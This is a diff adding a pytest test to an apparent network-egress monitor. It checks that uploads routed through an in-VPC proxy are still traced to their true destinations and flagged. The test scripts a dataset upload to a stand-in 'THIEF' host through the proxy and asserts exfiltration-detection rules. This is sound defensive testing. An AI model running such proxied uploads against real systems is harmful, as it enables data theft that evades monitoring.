@@ -375,3 +375,24 @@ def test_foreign_bucket(sluice, policy, dataset, lab, tls, names, run, job, wher
     assert set(sent) == {MODELS, THIEF}
     assert sum(sent.values()) == s.bytes()
     assert f["leak_bound"] == min(sent[THIEF], SIZE)
+
+
+# --- by a proxy --------------------------------------------------------------------
+
+def test_proxy(sluice, policy, dataset, lab, tls, names, run, job):
+    """What it is asked for is where the bytes go, though its own address is inside."""
+    s = tls(lab.vpc)
+    d = names({})
+    m = sluice(policy(d, {"name": API}))
+    for name in (API, THIEF):
+        run(d, upload(dataset, f"https://{name}/x", "--proxy", f"http://{s.at}"))
+    r = m.stop()
+    assert r.to(s, "bytes_out") == s.bytes() > 2 * SIZE
+    assert r.classes(s) == {"vpc"}
+    ends = {e["name"]: (e["name_source"], e["name_belief"]) for e in remotes(r, s) if e["name"]}
+    assert ends == {API: ("connect", "proxy"), THIEF: ("connect", "proxy")}
+    found = r.findings()
+    assert {f["rule"] for f in found.values()} == {"exfil.volume", "s3.foreign-bucket"} and len(found) == 2
+    assert {f["remote"]["name"] for f in found.values()} == {THIEF}
+    assert f"to {THIEF} (by way of {s.at}) outside the VPC" in r.finding("exfil.volume", s)["title"]
+    assert "tls1.3" in spoken(r, s)
